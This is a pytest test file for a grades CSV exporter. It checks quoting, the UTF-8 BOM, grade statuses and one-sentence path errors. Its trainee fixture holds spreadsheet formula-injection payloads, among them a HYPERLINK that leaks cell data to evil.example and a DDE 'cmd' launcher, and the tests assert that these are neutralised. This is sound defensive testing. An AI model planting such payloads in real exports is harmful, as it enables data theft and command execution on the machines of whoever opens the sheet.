"""``repairlab export``: a grades CSV a spreadsheet can trust. Real CSV quoting (a name such as
"Amara Okafor, PhD" stays in its column), formula-leading text neutralised, UTF-8 with a BOM for
names in any script, one row per trainee and exercise, no partial score shown as final, and a bad
path as one sentence, never a traceback and never a half-written file."""

from __future__ import annotations

import codecs
import csv
import io
import os
from pathlib import Path

import pytest

from repairlab.cli import main
from repairlab.course import load_course
from repairlab.errors import CourseError
from repairlab.nbgrader_api import open_course
from repairlab.supervisor.export import export_grades, write_csv
from repairlab.supervisor.grades import COLUMNS, neutralise

from helpers import formgrader_gradebook

pytestmark = pytest.mark.grading

OWN, PROJ = "owning-your-part", "projection-or-contribution"

# id, first name, last name, email: everything a spreadsheet or a naive CSV writer gets wrong
TRAINEES = [
    ("amara", "Amara", "Okafor, PhD", "amara@example.org"),
    ("quote", 'Zoë "Zee"', "O'Neil", "zee@example.org"),
    ("lines", "Line\nBreak", "Two\r\nLines", ""),
    ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "=cmd|' /C calc'!A0"),
    ("minus", "-2+3", "@SUM(A1:A9)", "@evil.example"),
    ("tab", "\tTabbed", "\rReturned", "tab@example.org"),
    ("jiwoo", "지우", "박", "jiwoo@example.org"),
    ("wang", "芳", "王", ""),
    ("fatima", "فاطمة", "الزهراء", "fatima@example.org"),
    ("=1+2", "Id", "Formula", ""),  # an id put in the gradebook by hand, not by the roster
]


def read_back(path: Path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def gradebook_course(scratch_course):
    """The trainees above; amara graded in full, quote with a written answer still to mark, lines
    with a flagged notebook, everyone else with nothing handed in."""
    with formgrader_gradebook(scratch_course) as gb:
        for tid, first, last, email in TRAINEES:
            gb.add_student(tid, first_name=first, last_name=last, email=email or None)
        scores = {}
        for tid in ("amara", "quote", "lines"):
            submission = gb.add_submission(OWN, tid)
            for notebook in submission.notebooks:
                for grade in notebook.grades:
                    grade.auto_score, grade.needs_manual_grade = 1.0, False
                    if grade.cell_type != "code":  # a written answer
                        if tid == "quote":
                            grade.auto_score, grade.needs_manual_grade = None, True  # still to mark
                        else:
                            grade.manual_score = 2.5
                if tid == "lines":
                    notebook.flagged = True
            gb.db.commit()
            scores[tid] = sum(float(g.score) for nb in submission.notebooks for g in nb.grades)
        max_score = {a.name: a.max_score for a in gb.assignments}
    return scratch_course, scores, max_score


def num(value: float) -> str:
    return str(int(value)) if float(value).is_integer() else str(value)


def test_the_csv_reads_back_cell_for_cell(gradebook_course, tmp_path):
    root, scores, max_score = gradebook_course
    path = tmp_path / "grades.csv"
    export_grades(open_course(root), path)
    raw, rows = read_back(path)
    assert raw.startswith(codecs.BOM_UTF8), "spreadsheets need the BOM to read UTF-8"
    assert raw.count(codecs.BOM_UTF8) == 1
    assert tuple(rows[0]) == COLUMNS
    body = {(r[0], r[1]): r for r in rows[1:]}
    exercises = len(load_course(root).exercises)
    assert len(rows) - 1 == len(TRAINEES) * exercises, "one row per trainee and exercise"
    assert len(body) == len(TRAINEES) * exercises
    assert all(len(r) == len(COLUMNS) for r in rows), "no row shifted by a comma or a newline"

    assert body[(OWN, "amara")] == [OWN, "amara", "Okafor, PhD", "Amara", "amara@example.org",
                                    num(scores["amara"]), num(max_score[OWN]), "graded", "", ""]
    assert scores["amara"] % 1 == 0.5  # the manual 2.5 is written as it is

    written = body[(OWN, "quote")]
    assert written[:5] == [OWN, "quote", "O'Neil", 'Zoë "Zee"', "zee@example.org"]
    assert written[5:] == ["", num(max_score[OWN]), "needs grading", num(scores["quote"]), written[9]]
    assert written[9] == "Part C", "what is left to grade is named by its heading, as pending names it"

    flagged = body[(OWN, "lines")]
    assert flagged[2:4] == ["Two\r\nLines", "Line\nBreak"]
    assert flagged[5:] == ["", num(max_score[OWN]), "needs grading", num(scores["lines"]), f"{OWN} (flagged)"]

    assert body[(OWN, "formula")][2:5] == [
        "'+1+1",
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "'=cmd|' /C calc'!A0",
    ]
    assert body[(OWN, "minus")][2:5] == ["'@SUM(A1:A9)", "'-2+3", "'@evil.example"]
    assert body[(OWN, "tab")][2:5] == ["'\rReturned", "'\tTabbed", "tab@example.org"]
    assert body[(OWN, "'=1+2")][1:4] == ["'=1+2", "Formula", "Id"]

    assert body[(OWN, "jiwoo")][2:5] == ["박", "지우", "jiwoo@example.org"]
    assert body[(PROJ, "wang")][2:4] == ["王", "芳"]
    assert body[(PROJ, "fatima")][2:4] == ["الزهراء", "فاطمة"]

    for tid, *_ in TRAINEES:
        if tid not in scores:
            assert body[(OWN, neutralise(tid))][5:] == ["", num(max_score[OWN]), "not submitted", "", ""]
        assert body[(PROJ, neutralise(tid))][5:] == ["", num(max_score[PROJ]), "not submitted", "", ""]


def test_only_graded_rows_carry_a_raw_score(gradebook_course, tmp_path):
    root, _, _ = gradebook_course
    path = tmp_path / "g.csv"
    export_grades(open_course(root), path)
    with open(path, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        assert (row["raw_score"] != "") == (row["status"] == "graded"), row
        assert row["status"] in ("graded", "needs grading", "not submitted")


@pytest.mark.parametrize("make_path, words", [
    (lambda tmp: Path("/nonexistent-folder/g.csv"), "the folder /nonexistent-folder does not exist"),
    (lambda tmp: (tmp / "file.txt").write_text("x") and tmp / "file.txt" / "g.csv", "is not a folder"),
    (lambda tmp: tmp, "it is a folder"),
    (lambda tmp: Path("/sys/g.csv"), None),  # permission denied or read-only, even for root
])
def test_a_bad_path_is_one_sentence_naming_it(gradebook_course, tmp_path, make_path, words):
    root, _, _ = gradebook_course
    path = make_path(tmp_path)
    with pytest.raises(CourseError) as info:
        export_grades(open_course(root), path)
    message = str(info.value)
    assert str(path) in message and "\n" not in message
    if words:
        assert words in message
    assert message.startswith(f"cannot write the grades to {path}")


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes to read-only folders; /sys covers it above")
def test_an_unwritable_folder_is_one_sentence(gradebook_course, tmp_path):
    root, _, _ = gradebook_course
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    with pytest.raises(CourseError, match=r"cannot write the grades to .*locked/g\.csv: Permission denied"):
        export_grades(open_course(root), locked / "g.csv")


def test_the_command_says_one_sentence_and_leaves_the_old_file_whole(gradebook_course, tmp_path, capsys, monkeypatch):
    root, _, _ = gradebook_course
    monkeypatch.chdir(root)
    assert main(["export", "--to", "/nonexistent/g.csv"]) == 2
    err = capsys.readouterr().err  # after the clock of "Reading the gradebook…", one sentence
    assert err.splitlines()[-1] == ("repairlab: cannot write the grades to /nonexistent/g.csv: the folder "
                                    "/nonexistent does not exist") and "Traceback" not in err

    target = tmp_path / "grades.csv"
    target.write_text("the previous export\n")
    rows = [object()]  # a row that cannot be written: the old file must stay as it was
    with pytest.raises(AttributeError):
        write_csv(rows, target)
    assert target.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []

    assert main(["export", "--to", str(target)]) == 0
    out = capsys.readouterr().out
    not_submitted = len(TRAINEES) * len(load_course(gradebook_course[0]).exercises) - 3
    assert (f"1 graded, 2 submission(s) with no final score yet (0 missed a safety item (review first), 0 could not be "
            f"autograded, 2 with written answers to mark), {not_submitted} not submitted") in " ".join(out.split())
    assert read_back(target)[1][0] == list(COLUMNS)


def test_no_gradebook_is_one_sentence_and_none_is_created(tmp_path):
    from helpers import copy_course

    root = copy_course(tmp_path / "course")
    with pytest.raises(
        CourseError, match="no gradebook in .*: import the roster and grade submissions before exporting"
    ):
        export_grades(open_course(root), tmp_path / "g.csv")
    assert not (root / "gradebook.db").exists() and not (tmp_path / "g.csv").exists()
